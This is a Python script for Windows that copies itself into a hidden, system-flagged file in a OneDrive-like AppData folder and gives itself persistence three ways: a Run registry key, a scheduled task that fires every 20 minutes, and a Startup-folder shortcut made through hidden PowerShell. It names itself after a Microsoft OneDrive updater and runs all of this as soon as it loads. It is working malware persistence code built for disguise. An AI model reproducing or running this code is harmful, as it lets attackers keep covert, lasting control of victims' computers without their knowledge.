import ctypes
import os
import shutil
import subprocess
import sys
import winreg

NAME = "OneDriveStandaloneUpdate"
DEST_DIR = os.path.join(os.environ["APPDATA"], "Microsoft", "OneDrive", "cache")
DEST = os.path.join(DEST_DIR, "OneDriveUpdate.exe")


def install():
    os.makedirs(DEST_DIR, exist_ok=True)
    src = sys.executable if getattr(sys, "frozen", False) else os.path.abspath(__file__)
    if os.path.abspath(src) != DEST:
        shutil.copy2(src, DEST)
        ctypes.windll.kernel32.SetFileAttributesW(DEST, 0x02 | 0x04)  # hidden + system
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0,
                        winreg.KEY_SET_VALUE) as k:
        winreg.SetValueEx(k, NAME, 0, winreg.REG_SZ, f'"{DEST}" --silent')
    subprocess.run(["schtasks", "/create", "/tn", f"Microsoft\\{NAME}", "/tr", f'"{DEST}" --silent',
                    "/sc", "minute", "/mo", "20", "/f"], capture_output=True, creationflags=0x08000000)
    startup = os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup", f"{NAME}.lnk")
    subprocess.run(["powershell", "-nop", "-w", "hidden", "-c",
                    f"$s=(New-Object -ComObject WScript.Shell).CreateShortcut('{startup}');"
                    f"$s.TargetPath='{DEST}';$s.WindowStyle=7;$s.Save()"], capture_output=True, creationflags=0x08000000)


install()
